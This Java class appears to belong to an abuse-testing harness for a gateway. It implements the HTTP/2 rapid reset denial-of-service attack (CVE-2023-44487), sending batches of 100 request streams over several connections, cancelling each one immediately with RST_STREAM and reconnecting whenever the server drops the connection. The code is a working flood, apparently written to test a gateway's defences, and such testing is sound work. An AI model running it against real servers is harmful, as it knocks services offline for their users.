package gatehouse.abuse.attacks;

import gatehouse.abuse.Attack;
import gatehouse.abuse.Target;
import gatehouse.abuse.Workers;
import gatehouse.testing.RawH2;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.Duration;

/**
 * HTTP/2 rapid reset (CVE-2023-44487) over {@code connections} connections: batches of 100 GETs,
 * each cancelled by RST_STREAM right after its HEADERS; a connection the gateway ends is opened
 * again. Volume: streams reset.
 */
public final class H2RapidReset implements Attack {
  private static final int BATCH = 100;
  private final int connections;

  public H2RapidReset(int connections) {
    this.connections = connections;
  }

  @Override
  public String name() {
    return "HTTP/2 rapid reset";
  }

  @Override
  public String unit() {
    return "streams";
  }

  @Override
  public long run(Target target, Duration duration) throws Exception {
    return Workers.run("rapid-reset", connections, System.nanoTime() + duration.toNanos(), (deadline, volume, open) -> {
      while (System.nanoTime() < deadline) {
        try (RawH2 h2 = RawH2.open(target.port())) {
          open.add(h2);
          try {
            for (int stream = 1; !h2.closed() && System.nanoTime() < deadline && stream < Integer.MAX_VALUE - 2 * BATCH; ) {
              ByteArrayOutputStream batch = new ByteArrayOutputStream();
              for (int i = 0; i < BATCH; i++, stream += 2) {
                RawH2.frame(batch, RawH2.HEADERS, RawH2.END_STREAM | RawH2.END_HEADERS, stream, RawH2.request("GET", Target.ATTACK + "reset-" + stream));
                RawH2.frame(batch, RawH2.RST_STREAM, 0, stream, RawH2.cancel());
              }
              h2.write(batch.toByteArray());
              volume.addAndGet(BATCH);
            }
          } finally {
            open.remove(h2);
          }
        } catch (IOException e) {
          Thread.sleep(10); // refused or reset: connect again
        }
      }
    });
  }
}
